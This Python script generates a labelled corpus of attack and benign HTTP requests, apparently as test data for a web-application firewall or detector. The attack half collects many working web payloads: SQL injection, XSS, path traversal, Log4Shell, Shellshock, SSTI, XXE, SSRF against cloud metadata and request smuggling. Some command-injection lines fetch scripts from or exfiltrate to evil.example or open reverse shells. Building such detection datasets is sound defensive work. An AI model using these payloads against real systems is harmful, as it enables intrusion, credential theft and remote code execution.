#!/usr/bin/env python3
"""Writes attacks.txt and benign.txt (see README.md). Deterministic; edit the lists, re-run,
review the diff. Payloads follow public cheat sheets (OWASP, PayloadsAllTheThings style)."""
import json, random, urllib.parse as up

random.seed(7)
HOSTS = ["api.shop.internal", "web.corp.local", "app.example.com"]
UAS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
       "curl/8.5.0", "python-requests/2.32.3", "okhttp/4.12.0", "Go-http-client/1.1",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"]

def req(method, target, headers=(), body=None, ctype=None, host=None, ua=None):
    h = [f"{method} {target} HTTP/1.1", f"Host: {host or random.choice(HOSTS)}",
         f"User-Agent: {ua or random.choice(UAS)}", "Accept: */*"]
    h += list(headers)
    if ctype:
        h.append(f"Content-Type: {ctype}")
    out = "\n".join(h) + "\n\n"
    if body is not None:
        out += body
    return out

def q(v):
    return up.quote(v, safe="")

def form(d):
    return up.urlencode(d)

def multipart(fields, files=()):
    b = "----meshguardB0undary7"
    parts = []
    for k, v in fields:
        parts.append(f'--{b}\nContent-Disposition: form-data; name="{k}"\n\n{v}\n')
    for k, fn, ct, data in files:
        parts.append(f'--{b}\nContent-Disposition: form-data; name="{k}"; filename="{fn}"\nContent-Type: {ct}\n\n{data}\n')
    return "".join(parts) + f"--{b}--\n", f"multipart/form-data; boundary={b}"

def deliver(payload, i):
    """Puts an attack payload into one of the places apps read input from."""
    kind = i % 6
    if kind == 0:
        return req("GET", f"/search?q={q(payload)}&page=1")
    if kind == 1:
        return req("POST", "/login", body=form({"username": payload, "password": "x"}), ctype="application/x-www-form-urlencoded")
    if kind == 2:
        return req("POST", "/api/v1/items", body=json.dumps({"name": payload, "qty": 2}), ctype="application/json")
    if kind == 3:
        return req("GET", f"/product?id={q(payload)}")
    if kind == 4:
        return req("GET", "/account", headers=[f"Cookie: session=abc123; pref={q(payload)}"])
    return req("PUT", "/api/v2/profile", body=json.dumps({"user": {"bio": payload}}), ctype="application/json")

SQLI = [
    "' OR '1'='1", "' OR 1=1-- -", "admin'--", "1' ORDER BY 3--+", "1 UNION SELECT null,null,version()--",
    "' UNION ALL SELECT username,password FROM users--", "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--",
    "1 AND SLEEP(5)", "1' AND SLEEP(5) AND 'a'='a", "1; WAITFOR DELAY '0:0:5'--", "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "' AND extractvalue(1,concat(0x7e,(SELECT user())))--", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "' OR 'x'='x", "\" OR \"\"=\"", "1) OR (1=1", "' OR 1=1#", "1' and substring(@@version,1,1)=5--",
    "-1 UNION SELECT 1,2,3,4,5,6,7--", "1 OR pg_sleep(5)--", "'; SELECT pg_sleep(10)--", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "' HAVING 1=1--", "' GROUP BY columnnames having 1=1 --", "admin' #", "' or ''='", "1 AND 1=2 UNION SELECT table_name FROM information_schema.tables",
    "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", "1;SELECT * FROM users WHERE 't'='t", "' AND 1=CONVERT(int,@@version)--",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "%27%20OR%201%3D1--", "1%2527%20OR%201%3D1",
    "' uNiOn SeLeCt 1,2,3 --", "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "' or benchmark(10000000,MD5(1))#",
    "1' AND (SELECT * FROM (SELECT(SLEEP(3)))bAKL)--", "'; INSERT INTO users VALUES('hax','hax')--",
    "1 AND 5=5", "' AND 'a'='a", "1' OR '1'='1' /*", "'; UPDATE users SET role='admin' WHERE name='bob'--",
    "1 UNION SELECT LOAD_FILE('/etc/passwd')", "' UNION SELECT 1,@@version,3 INTO OUTFILE '/var/www/shell.php'--",
    "1)) OR ((1=1", "' OR id IS NOT NULL--", "-1' OR 3*2*1=6 AND 000111=000111--", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users),1,1))>64",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(document.cookie)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>", "<body onload=alert('xss')>", "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>", "'\"><img src=x onerror=prompt(1)>",
    "<svg/onload=alert`1`>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253Ealert(1)%253C/script%253E",
    "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "<svg><script>alert&#40;1&#41;</script>",
    "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=image>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<audio src=1 onerror=alert(1)>", "<body onpageshow=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<style>@import 'javascript:alert(1)';</style>",
    "<base href=\"javascript:alert(1)//\">", "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", "..%252f..%252f..%252fetc%252fpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd", "../../../../../../etc/passwd%00.png", "..%5c..%5c..%5cboot.ini", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "file:///etc/passwd", "/proc/self/environ", "../../WEB-INF/web.xml", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "../../../../var/log/apache2/access.log", "..;/..;/admin", "/../../../../home/user/.ssh/id_rsa", "report.pdf%00",
    "....\\\\....\\\\windows\\\\win.ini",
]
CMD = [
    "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; ls -la", "|nc -e /bin/sh 10.0.0.1 4444",
    "127.0.0.1; ping -c 3 127.0.0.1", "; sleep 10", "a;wget http://evil.example/x.sh -O /tmp/x.sh", "|| curl http://evil.example/`whoami`",
    "; /bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "$(curl -s http://evil.example/s|sh)", "%0Aid", "127.0.0.1%0acat%20/etc/passwd",
    ";cat${IFS}/etc/passwd", "; c'a't /etc/passwd", ";/???/c?t /???/p??s??", "| powershell -enc SQBFAFgA", "& dir c:\\",
    "; uname -a", "|| ping -n 5 127.0.0.1", "`sleep 5`", "; echo $((7*7))", "; python -c 'import os;os.system(\"id\")'",
]
LOG4J = [
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/Exploit}", "${${lower:j}ndi:ldap://evil.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/p}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${jndi:dns://evil.example/x}", "${${upper:j}ndi:ldap://evil.example/}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "${j${k8s:k5:-ND}i:ldap://evil.example/}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/}",
]

attacks = []
n = 0
for group, payloads in (("sqli", SQLI), ("xss", XSS), ("path-traversal", TRAVERSAL), ("cmd-injection", CMD)):
    for p in payloads:
        attacks.append((group, deliver(p, n)))
        n += 1
for i, p in enumerate(LOG4J):
    where = i % 3
    if where == 0:
        attacks.append(("log4shell", req("GET", "/", ua=p)))
    elif where == 1:
        attacks.append(("log4shell", req("GET", "/api/status", headers=[f"X-Api-Version: {p}"])))
    else:
        attacks.append(("log4shell", deliver(p, i)))
SHELLSHOCK = ["() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo vulnerable", "() { _; } >_[$($())] { id; }",
              "() { :; }; /usr/bin/wget http://evil.example/x"]
for i, p in enumerate(SHELLSHOCK):
    hdr = ["User-Agent", "Referer", "Cookie", "X-Custom"][i % 4]
    h = [f"{hdr}: {p}"] if hdr != "User-Agent" else []
    attacks.append(("shellshock", req("GET", "/cgi-bin/status.cgi", headers=h, ua=p if hdr == "User-Agent" else None)))
# Path traversal in the raw path.
for p in ["/static/..%2f..%2f..%2fetc/passwd", "/images/../../../../etc/shadow", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
          "/download/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", "/..;/manager/html"]:
    attacks.append(("path-traversal", req("GET", p)))
SMUGGLE = [
    "POST /search HTTP/1.1\nHost: web.corp.local\nContent-Length: 13\nTransfer-Encoding: chunked\n\n0\r\n\r\nSMUGGLED",
    "POST /search HTTP/1.1\nHost: web.corp.local\nContent-Length: 6\nContent-Length: 5\n\n12345G",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: xchunked\nContent-Length: 4\n\n5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding : chunked\n\n0\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked\nTransfer-Encoding: identity\n\n0\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding:\tchunked\nContent-Length: 3\n\n0\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nX-Foo: bar\n Transfer-Encoding: chunked\n\n0\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked\n\n0x5\r\nhello\r\n0\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked\n\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "POST /search HTTP/1.1\nHost: web.corp.local\nContent-Length: +12\n\nq=smuggled!!",
    "POST /search HTTP/1.1\nHost: web.corp.local\nTransfer-Encoding: chunked, identity\n\n0\r\n\r\n",
    "POST /search HTTP/1.0\nHost: web.corp.local\nTransfer-Encoding: chunked\n\n0\r\n\r\n",
]
for s in SMUGGLE:
    attacks.append(("http-smuggling", s))
attacks.append(("malformed-header", "GET / HTTP/1.1\nHost: a\nX-Inject: a\x00b\n\n"))
attacks.append(("sqli", req("GET", "/", ua="Mozilla/5.0' AND SLEEP(5) AND '1'='1")))
attacks.append(("sqli", req("GET", "/", headers=["Referer: http://x/' UNION SELECT password FROM users--"])))
attacks.append(("xss", req("GET", "/", headers=["Referer: <script>alert(1)</script>"])))
attacks.append(("sqli", req("GET", "/items?" + "id%27%20OR%201=1--=1")))
attacks.append(("malformed-header", "GET / HTTP/1.1\nHost: a\nHost: b\n\n"))
attacks.append(("oversized-header", req("GET", "/", headers=["X-Big: " + "A" * 9000])))

# Cheat-sheet payloads, each sent as a single query parameter (label: the family).
EXTRA_ATTACKS = ["admin' #", "admin'/*", "' or 1=1 limit 1 -- -+", "1' or '1'='1", '" or ""="', 'or 1=1', "' or 'a'='a", "') or ('a'='a", '1 or 1=1', "1' AND 1=1 --", '1 AND 1=1', "' OR 'unusual' = 'unusual'", "1 waitfor delay '0:0:10'--", "'; exec master..xp_cmdshell 'ping 10.10.1.2'--", "' union select 1, @@version --", '1 UNION SELECT ALL FROM information_schema.tables', '%27%20or%201%3D1', "' or sleep(5)#", 'ORDER BY 1--', "1' ORDER BY 1--+", "' AND 1=0 UNION ALL SELECT '', '81dc9bdb52d04dc20036dbd8313ed055", "<IMG SRC=javascript:alert('XSS')>", "<IMG SRC=JaVaScRiPt:alert('XSS')>", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', "<BODY ONLOAD=alert('XSS')>", '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', "<svg/onload=alert('XSS')>", '"><svg onload=alert(1)//', '<img src=x onerror=alert(1)//', "';alert(String.fromCharCode(88,83,83))//", '<a onmouseover="alert(document.cookie)">xxs link</a>', '<script src=//evil.example/x.js></script>', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', '<DIV STYLE="width: expression(alert(\'XSS\'));">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">', '\\"><script>alert(1)</script>', '<sCript>alert(1)</sCript>', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>', '../../../../../../etc/passwd', '..%2F..%2F..%2F..%2Fetc%2Fpasswd', '..%252f..%252f..%252fetc%252fpasswd', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd', '..\\..\\..\\..\\windows\\win.ini', '/%5C../%5C../%5C../etc/passwd', '....//....//etc/passwd', '..%5c..%5c..%5cwindows%5cwin.ini', '/etc/passwd%00', 'c:\\boot.ini', '../../../../../../../../../../etc/hosts', '%252e%252e%252fetc%252fpasswd', '..%u2216..%u2216windows%u2216win.ini', ';id', '|id', '`id`', '$(id)', ';cat /etc/passwd', '|cat /etc/passwd', '&& cat /etc/passwd', '; ping -c 10 127.0.0.1', '| ping -n 10 127.0.0.1', '&ping -c 5 localhost&', ";system('id')", ';netstat -an', 'a|whoami', 'a;uname -a', '%0acat%20/etc/passwd', '127.0.0.1&&dir', '|| type c:\\windows\\win.ini', '; nc -lvp 4444 -e /bin/sh', ';echo${IFS}vulnerable', '$(sleep 5)', '`sleep 5`', ';sleep 5;', '| sleep 5', '${jndi:ldap://x.x/a}', '${jndi:ldap://127.0.0.1#evil.com:1389/a}', '${${lower:jndi}:${lower:rmi}://x.x/poc}', '${${::-j}ndi:rmi://x.x/ass}', '${jnd${123%25ff:-i}:ldap://x.x/a}']
for i, p in enumerate(EXTRA_ATTACKS):
    fam = "sqli" if i < 21 else "xss" if i < 39 else "path-traversal" if i < 53 else "cmd-injection" if i < 76 else "log4shell"
    attacks.append((fam, req("GET", "/find?q=" + q(p))))

# XXE, SSTI, SSRF, PHP and NoSQL injection.
XXE_BODY = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'
attacks.append(("xxe", req("POST", "/xml/api", body=XXE_BODY, ctype="application/xml")))
attacks.append(("xxe", req("POST", "/xml/api", body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>', ctype="text/xml")))
attacks.append(("xxe", deliver('<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/">]><a>&b;</a>', 0)))
for i, p in enumerate(["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
                       "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
                       "{% import os %}{{ os.system('id') }}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"]):
    attacks.append(("ssti", deliver(p, i)))
for i, p in enumerate(["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
                       "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "http://[fd00:ec2::254]/latest/meta-data/"]):
    attacks.append(("ssrf", req("GET", "/fetch?url=" + q(p))))
for i, p in enumerate(["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", ";system('id')",
                       "phpinfo();", "';eval($_POST['x']);//", "expect://id"]):
    attacks.append(("php-injection", deliver(p, i + 1)))
attacks.append(("nosql-injection", req("POST", "/login", body="username[$ne]=x&password[$ne]=x", ctype="application/x-www-form-urlencoded")))
attacks.append(("nosql-injection", req("GET", "/users?name[$regex]=.*&role[$ne]=guest")))
attacks.append(("nosql-injection", req("POST", "/api/find", body=json.dumps({"$where": "sleep(5000) || true"}), ctype="application/json")))
for p in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "x)(|(password=*)"]:
    attacks.append(("ldap-injection", req("GET", "/directory?user=" + q(p))))
for p in ["%0d%0aSet-Cookie:%20session=attacker", "/home%0d%0aLocation:%20http://evil.example", "x%0a%0a<html>injected</html>"]:
    attacks.append(("crlf-injection", req("GET", "/redirect?next=" + p)))

# ---------------------------------------------------------------- benign
benign = []
NAMES = ["O'Brien", "D'Angelo", "Mary-Jane O'Neil", "José Álvarez", "Zoë Saldaña", "Nguyễn Văn An", "Müller-Lüdenscheidt",
         "Renée D'Arcy", "Jean-Luc Picard", "Siobhán Ní Bhriain", "李小龍", "Αλέξανδρος", "Åsa Öberg", "O'Connor & Sons",
         "Smith, John", "Ann-Marie St. John", "Dr. Martin Luther King Jr.", "André 3000", "Bob's Burgers", "Rock 'n' Roll"]
SEARCHES = ["how to cook rice", "\"exact phrase\" search", "c++ vs c#", "50% off shoes", "tom & jerry", "why is 1+1=2",
            "best laptop (2024)", "it's raining", "don't stop me now", "what's the select button", "drop shipping business",
            "union station hours", "order by price", "where is the delete key", "SQL tutorial for beginners",
            "update my address", "5' 11\" in cm", "a/b testing", "node.js vs deno", "price < 100", "rating >= 4",
            "email@example.com", "100% cotton t-shirt", "#hashtag", "@mention", "coffee; tea", "cats | dogs", "R&D jobs",
            "fish & chips near me", "The Lord of the Rings: The Two Towers", "résumé template", "naïve bayes", "1/2 cup to ml",
            "2024-06-01", "user's guide", "select all that apply", "insert coin", "script writing course", "alert system for elderly",
            "on sale", "onion rings recipe", "java script tutorial", "sleep 8 hours", "cat food", "ping pong table",
            "echo dot", "how to use grep", "ls -la meaning", "what does sudo mean", "/etc/hosts file windows",
            "../ in file paths explained", "C:\\Program Files", "the who live at leeds", "AT&T store", "M&M's", "Barnes & Noble",
            "1' tall plant", "O'Reilly books", "rock'n'roll", "let's go", "I'm feeling lucky", "mother's day gifts",
            "Men's Wear", "kids' toys", "don't panic", "can't stop", "'quoted'", "\"double quoted\"", "a -- b", "x = y + z",
            "1 or 2 bedrooms", "drop-down menu", "select * from dreams", "or else", "and/or", "having fun", "group by color",
            "<3 you", "i <3 nyc", "2 > 1", "=SUM(A1:A10)", "function() {}", "if (a && b) { }", "[link](http://x.y)",
            "emoji 🎉🚀", "日本語のテキスト", "Привет мир", "مرحبا", "שלום", "ok; thanks", "call me at 555-1234"]

for i, s in enumerate(SEARCHES):
    benign.append(req("GET", f"/search?q={q(s)}&sort=relevance&page={i % 5 + 1}"))
    if i % 2 == 0:
        benign.append(req("GET", "/search?" + form({"q": s, "lang": "en"})))
for i, nme in enumerate(NAMES):
    benign.append(req("POST", "/signup", body=form({"name": nme, "email": f"user{i}@example.com", "password": "S3cure!pass#" + str(i), "agree": "on"}), ctype="application/x-www-form-urlencoded"))
    benign.append(req("POST", "/api/v1/customers", body=json.dumps({"name": nme, "address": {"line1": f"{i+1} O'Farrell St.", "city": "San Francisco"}, "tags": ["vip", "b2b"]}), ctype="application/json"))
    benign.append(req("PATCH", f"/api/v1/customers/{1000+i}", body=json.dumps({"displayName": nme, "note": "Prefers \"email\" contact; don't call after 6pm"}), ctype="application/merge-patch+json"))
for i in range(30):
    benign.append(req("DELETE", f"/api/v1/orders/{5000+i}", headers=["Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc" + str(i)]))
    benign.append(req("PUT", f"/api/v1/orders/{5000+i}/status", body=json.dumps({"status": random.choice(["shipped", "cancelled", "returned"]), "reason": random.choice(["customer's request", "out of stock (backorder)", "address <unknown>", "n/a"])}), ctype="application/json"))
MARKDOWN = [
    "# Release notes\n\n* Fixed `select` dropdown on Safari\n* Use `git log --oneline` to view history\n\n```bash\nls -la && npm test\n```\n",
    "To install run:\n\n```\ncurl -sSL https://get.example.com | sh\n```\nThen check `echo $PATH`.",
    "SELECT statements should use parameters, e.g. `db.Query(\"SELECT * FROM users WHERE id = $1\", id)` instead of string concatenation.",
    "<p>Hello <b>world</b>, this is <i>rich</i> text with a <a href=\"https://example.com\">link</a>.</p>",
    "Use <code>&lt;script&gt;</code> tags carefully. In React use {value} and never dangerouslySetInnerHTML.",
    "function add(a, b) { return a + b; }\nconst x = add(1, 2); // 3\nif (x > 2 && x < 4) { console.log('ok'); }",
    "def main():\n    print('hello, world')\n    for i in range(10):\n        if i % 2 == 0: continue\n",
    "The path is ../assets/logo.png relative to this file.", "Meeting notes: Q3 goals; hire 2 engineers; ship v2.0 -- by Oct 1st.",
    "I'd like to return item #4512 because it's the wrong size (L instead of M).", "Formula: =IF(A1>10, \"high\", \"low\")",
    "Dear team,\n\nPlease find the report attached. Revenue grew 12% QoQ; costs dropped 3%.\n\nBest,\nSam O'Neill",
    "regex: ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "C:\\Users\\alice\\Documents\\report.docx", "/home/alice/projects/meshguard/README.md",
    "Price: $19.99 (was $29.99) -- save 33%!", "Use a tab\tand a newline\nin text.", "{\"nested\": \"json in a string\"}",
    "<h1>Title</h1><ul><li>One</li><li>Two</li></ul><img src=\"/images/a.png\" alt=\"A\">",
    "Call `kubectl get pods -n prod | grep web` to list them.", "Run `make test` then `./bin/app --help`.",
]
for i, md in enumerate(MARKDOWN):
    benign.append(req("POST", "/api/v1/posts", body=json.dumps({"title": f"Post {i}", "body": md, "draft": i % 2 == 0}), ctype="application/json"))
    benign.append(req("POST", "/comments", body=form({"comment": md, "post_id": str(100 + i)}), ctype="application/x-www-form-urlencoded"))
for i in range(20):
    body, ct = multipart([("title", f"Holiday photo {i}"), ("description", random.choice(["Me & my dog at the beach", "Sunset — it's gorgeous!", "O'Hare airport, 6am", "50% done"]))],
                         [("file", random.choice(["IMG_20240601_123456.jpg", "report (final) v2.pdf", "résumé.docx", "data-2024.csv", "my file's name.png"]), random.choice(["image/jpeg", "application/pdf", "text/csv"]),
                           random.choice(["\xff\xd8\xff\xe0JFIF binary data here ' OR 1=1 <script> random bytes", "id,name,comment\n1,O'Brien,\"likes; cats\"\n2,Smith,\"<none>\"\n", "%PDF-1.7 ... stream ... endstream"]))])
    benign.append(req("POST", "/upload", body=body, ctype=ct))
ANALYTICS = [
    "/collect?v=2&tid=G-ABC123&cid=555.123&en=page_view&dl=https%3A%2F%2Fshop.example.com%2Fproducts%3Fid%3D42&dt=Shoes%20%26%20Boots%20%7C%20Shop&ul=en-us&sr=1920x1080",
    "/pixel.gif?utm_source=newsletter&utm_medium=email&utm_campaign=summer_sale_2024&utm_content=hero%20banner",
    "/track?event=click&props=%7B%22button%22%3A%22buy%20now%22%2C%22price%22%3A19.99%7D",
    "/api/v1/events?filter=status%3Dactive%20AND%20type%3Dorder&fields=id,name,created_at&sort=-created_at&limit=50",
    "/maps?q=37.7749%2C-122.4194&z=12", "/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2",
    "/api/search?q=title:%22hello%20world%22%20AND%20author:smith&facets=year,lang",
    "/graphql?query=%7Buser(id%3A%221%22)%7Bname%2Cemail%7D%7D", "/wp-json/wp/v2/posts?per_page=10&_embed=1",
    "/api/v2/items?ids[]=1&ids[]=2&ids[]=3", "/calendar?from=2024-06-01T00:00:00Z&to=2024-06-30T23:59:59%2B02:00",
    "/report?cols=revenue%2Ccost&where=region%20%3D%20%27EMEA%27", "/s?k=usb-c+cable+6ft&ref=nb_sb_noss",
    "/watch?v=dQw4w9WgXcQ&t=42s&list=PL1234", "/api/v1/files?path=%2Fshared%2Fdocs%2FQ3%20report.pdf",
    "/download?file=reports/2024/q3.pdf", "/img/thumb?src=/uploads/2024/06/photo.jpg&w=300&h=200&fit=crop",
    "/oauth/callback?code=4%2F0AX4XfWh&state=xyz%3D%3D&scope=email%20profile%20openid",
    "/api/geo?bbox=-122.52,37.70,-122.35,37.83", "/search?q=%E6%97%A5%E6%9C%AC&lang=ja",
]
for a in ANALYTICS:
    benign.append(req("GET", a, headers=["Referer: https://shop.example.com/products?id=42&ref=home", "Cookie: _ga=GA1.2.12345.67890; _gid=GA1.2.987.654; cart=%7B%22items%22%3A3%7D; theme=dark"]))
for i in range(25):
    # Real-world cookies, tokens and headers.
    benign.append(req("GET", f"/dashboard?tab={q(random.choice(['overview','billing','team members']))}", headers=[
        "Cookie: sessionid=8f14e45fceea167a5a36dedd4bea2543; csrftoken=Q2hhbmdlTWUhIQ%3D%3D; prefs=lang%3Den%26tz%3DEurope%2FBerlin",
        "X-Forwarded-For: 10.1.2.3, 192.168.0.7", "Accept-Language: en-US,en;q=0.9,fr;q=0.8", "X-Request-ID: " + "%032x" % random.getrandbits(128),
        "If-None-Match: W/\"5e15153d-120f\"", "Cache-Control: no-cache", "Authorization: Basic dXNlcjpwYXNzd29yZA=="]))
API_BODIES = [
    {"query": "query GetUser($id: ID!) { user(id: $id) { name friends(first: 10) { edges { node { name } } } } }", "variables": {"id": "42"}},
    {"filter": {"and": [{"field": "price", "op": ">=", "value": 10}, {"field": "name", "op": "contains", "value": "O'Neil"}]}},
    {"sql_hint": "use index", "description": "Drop-in replacement for the old select box; union of both lists"},
    {"password": "P@ss'w0rd\"; --", "confirm": "P@ss'w0rd\"; --"}, {"url": "https://example.com/a?b=c&d=e#f"},
    {"html": "<div class=\"card\"><h2>Title</h2><p>Text &amp; more</p></div>"}, {"path": "src/main/java/com/example/App.java"},
    {"expression": "a > b && c < d || !e"}, {"note": "meet @ 5pm; bring laptop & charger"}, {"cmd": "build", "args": ["--release", "--target", "x86_64"]},
    {"template": "Hello {{name}}, your order #{{order_id}} has shipped!"}, {"email": "o'brien+test@example.co.uk"},
    {"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "coupon": "SAVE-20%"},
    {"text": "It's 5 o'clock somewhere -- let's grab a drink; my treat!"}, {"comment": "LGTM :) merged into main; closing #123"},
    {"title": "Why does `SELECT 1` return 1?", "tags": ["sql", "postgres"]},
    {"bio": "Full-stack dev. I <3 Go & Rust. Ex-@bigco. He/him."}, {"address": "Flat 2/B, 10 Downing St., London SW1A 2AA"},
    {"phone": "+1 (555) 010-9999 ext. 23"}, {"color": "#ff00aa", "font": "'Helvetica Neue', Arial, sans-serif"},
]
for i, b in enumerate(API_BODIES):
    benign.append(req(random.choice(["POST", "PUT", "PATCH"]), f"/api/v1/resources/{i}", body=json.dumps(b), ctype="application/json"))
    benign.append(req("POST", "/api/v1/batch", body=json.dumps([b, {"id": i}]), ctype="application/json; charset=utf-8"))
for i in range(15):
    body = "3\r\nabc\r\n5\r\n12345\r\n0\r\n\r\n"
    benign.append(f"POST /api/stream HTTP/1.1\nHost: api.shop.internal\nTransfer-Encoding: chunked\nContent-Type: text/plain\n\n{body}")
    benign.append(req("GET", f"/static/js/app.{'%08x' % random.getrandbits(32)}.js", headers=["Accept-Encoding: gzip, deflate, br", "Sec-Fetch-Mode: no-cors"]))
    benign.append(req("HEAD", f"/healthz"))
    benign.append(req("OPTIONS", "/api/v1/items", headers=["Origin: https://app.example.com", "Access-Control-Request-Method: DELETE", "Access-Control-Request-Headers: content-type, authorization"]))
XML = ['<?xml version="1.0"?><order><id>42</id><customer>O\'Brien &amp; Co</customer></order>',
       '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>']
for x in XML:
    for i in range(3):
        benign.append(req("POST", "/xml/api", body=x, ctype="application/xml"))

benign.append(req("GET", "/api/articles?filters[price][$gt]=10&filters[title][$contains]=shoes&sort[0]=price:asc"))
benign.append(req("POST", "/api/schema", body=json.dumps({"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "x", "type": "object", "properties": {"a": {"$ref": "#/defs/a"}}}), ctype="application/json"))
for t in ["Hello {{ user.name }}!", "Total: ${price} USD", "#{count} items", "<%= title %>", "{% if user %}Hi{% endif %}", "5 * 3 = 15", "{{ 'now' | date }}",
          "v2-3 release", "${HOME}/bin", "see http://localhost:8080/health", "http://127.0.0.1:3000/callback", "callback=https://app.example.com/oauth/cb",
          "system requirements (minimum)", "exec summary (draft)", "eval(uation) form", "include (optional)", "the assert() macro in C",
          "f(x)(y) composition", "(a)(b)(c) options", "Mr. (John) Smith", "x = 1 or y = 2", "sort order = asc", "android = true",
          "either 1 or 2 = fine", "Q: why?\nA: because", "line one\nline two"]:
    benign.append(req("GET", "/find?q=" + q(t)))
